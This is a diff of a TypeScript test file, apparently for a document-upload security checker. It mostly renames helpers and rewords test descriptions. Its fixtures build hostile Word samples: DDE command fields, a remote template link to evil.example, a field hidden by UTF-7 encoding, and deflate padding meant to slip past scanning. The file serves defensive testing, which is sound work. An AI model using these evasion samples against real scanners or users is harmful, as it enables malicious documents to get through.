@@ -222,21 +222,21 @@ function inDocument(content: string): Buffer {
   return sampleDocx({ 'word/document.xml': `<w:document><w:body>${content}</w:body></w:document>` });
 }
 
-/** Packs a part so that the first piece that is unpacked is its first byte: what comes before it are 64 KiB of nothing. */
-function packedAfterNothing(plain: Buffer): Buffer {
+/** Deflates a part so that its first chunk is a single byte: 64 KiB of empty blocks precede it. */
+function deflatedAfterEmptyBlocks(plain: Buffer): Buffer {
   const block = (content: Buffer, isLast = false): Buffer => {
     const head = Buffer.from([isLast ? 1 : 0, 0, 0, 0, 0]);
     head.writeUInt16LE(content.length, 1);
     head.writeUInt16LE(content.length ^ 0xffff, 3);
     return Buffer.concat([head, content]);
   };
-  const nothing = Array.from({ length: 13_106 }, () => block(Buffer.alloc(0)));
-  return Buffer.concat([...nothing, block(plain.subarray(0, 1)), block(plain.subarray(1), true)]);
+  const emptyBlocks = Array.from({ length: 13_106 }, () => block(Buffer.alloc(0)));
+  return Buffer.concat([...emptyBlocks, block(plain.subarray(0, 1)), block(plain.subarray(1), true)]);
 }
 
 const withField = (...runs: string[]) => inDocument(inField(...runs));
 
-/** A field with something before its instruction. */
+/** A field with some XML before its instruction. */
 function withMark(before: string, instruction = 'DDE cmd'): Buffer {
   return inDocument(inField(instruction).replace('<w:instrText', `${before}<w:instrText`));
 }
@@ -286,9 +286,9 @@ function withSecondHeader(png: Buffer): Buffer {
 }
 
 it.each([
-  ['a chart’s table', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK' }],
+  ['the table of a chart', { 'word/embeddings/Microsoft_Excel_Sheet.xlsx': 'PK' }],
   [
-    'parts that say how they are encoded',
+    'parts that declare their encoding',
     {
       'word/header1.xml': '<?xml version="1.0" encoding="utf-8" standalone="yes"?><w:hdr/>',
       'customXml/item1.xml': "<?xml version='1.0' encoding='windows-1252'?><a/>",
@@ -322,7 +322,7 @@ it.each([
     },
   ],
   [
-    'a page number in a box of text, which stands there for newer and for older programs',
+    'a page number in a text box, with alternatives for newer and older programs',
     {
       'word/footer1.xml': `<w:ftr>${inField(
         `IF ${inField('PAGE')} = 1 "a" "b"`,
@@ -330,20 +330,20 @@ it.each([
     },
   ],
   [
-    'the number of a formula, in runs of the formula',
+    'the number of a formula, in formula runs',
     {
       'word/document.xml': `<w:document xmlns:m="http://schemas.openxmlformats.org/officeDocument/2006/math"><m:oMath>${inField('SEQ Formula').replace(/(<\/?)w:r>/g, '$1m:r>')}</m:oMath></w:document>`,
     },
   ],
   [
-    'a picture as CorelDRAW writes it',
+    'a picture written by CorelDRAW',
     {
       'word/media/image2.svg':
         '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<!-- Creator: CorelDRAW -->\n<svg xmlns="http://www.w3.org/2000/svg"><style type="text/css"><![CDATA[ .fil0 {fill:#E31E24} g>path{} ]]></style></svg>',
     },
   ],
   [
-    'a picture as Graphviz writes it',
+    'a picture written by Graphviz',
     {
       'word/media/image2.svg':
         '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- What the writer\'s program says -->\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"\n "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>',
@@ -371,7 +371,7 @@ function hiddenScript(...args: Parameters<typeof hiddenObjects>): Buffer {
 const SETTINGS = 'word/_rels/settings.xml.rels';
 const REMOTE = 'Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"';
 
-/** A part that holds something only for a program that reads UTF-7. */
+/** A part whose field exists only for a program that reads UTF-7. */
 function inUtf7(element: string): string {
   return `<?xml version="1.0" encoding="UTF-7"?><${element}>+ADw-w:instrText+AD4-DDE cmd</${element}>`;
 }
@@ -530,7 +530,7 @@ describe('a file that must be saved differently is refused with 400', () => {
     [
       'byte-by-byte.docx',
       sampleDocx({ 'word/document.xml': `\ufeff<w:document>${inField('DDE cmd')}</w:document>` }, undefined, {
-        pack: packedAfterNothing,
+        pack: deflatedAfterEmptyBlocks,
       }),
       'from another place',
     ],
@@ -679,7 +679,7 @@ describe('a file that must be saved differently is refused with 400', () => {
   });
 });
 
-describe('damage anywhere', () => {
+describe('a damaged file', () => {
   const originals: [string, Buffer][] = [
     ['a.pdf', samplePdf({ objects: packedPdfObjects('6 0 << /Type /Font >>') })],
     ['a.doc', sampleDoc()],
@@ -688,9 +688,9 @@ describe('damage anywhere', () => {
   ];
 
   it.each(originals)(
-    'never breaks the check of %s: it is accepted or refused with a sentence',
+    'never crashes the check, and is accepted or rejected with a message: %s',
     async (name, original) => {
-      // The structure of all these files is in the first kilobytes; change every third byte of it once.
+      // The structure of these files is in the first kilobytes; each third byte of it is changed once.
       for (let at = 8; at < Math.min(original.length, 1536); at += 3) {
         const changed = Buffer.from(original);
         changed.writeUInt8(changed.readUInt8(at) ^ 0xff, at);
